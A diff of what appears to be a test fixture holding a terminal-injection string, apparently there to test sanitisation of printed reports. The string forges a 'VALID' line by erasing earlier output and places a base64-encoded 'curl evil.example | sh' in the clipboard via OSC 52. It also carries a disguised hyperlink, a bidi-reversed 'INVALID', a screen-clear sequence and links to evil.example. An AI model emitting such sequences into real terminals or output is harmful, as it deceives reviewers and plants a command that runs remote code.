@@ -6,7 +6,8 @@ direction (a bidi override) and uses the 8-bit CSI form. Every printed report mu
 """
 
 ESC = "\x1b"
-MESSAGE = (f"{ESC}[1A{ESC}[2K{ESC}[1A{ESC}[2K\r/tmp/loss.py: VALID\n"
+# one line (no newline, so a traceback's last line carries all of it); ESC [ 1 E moves to the next line
+MESSAGE = (f"{ESC}[1A{ESC}[2K{ESC}[1A{ESC}[2K\r/tmp/loss.py: VALID{ESC}[1E"
            f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={ESC}\\"
            f"{ESC}]8;;https://evil.example{ESC}\\click{ESC}]8;;{ESC}\\"
            "\u202eFILAVNI\u202c \x9b2J\x07 [x](https://evil.example) ![p](https://evil.example/p.png) <b>bold</b>")
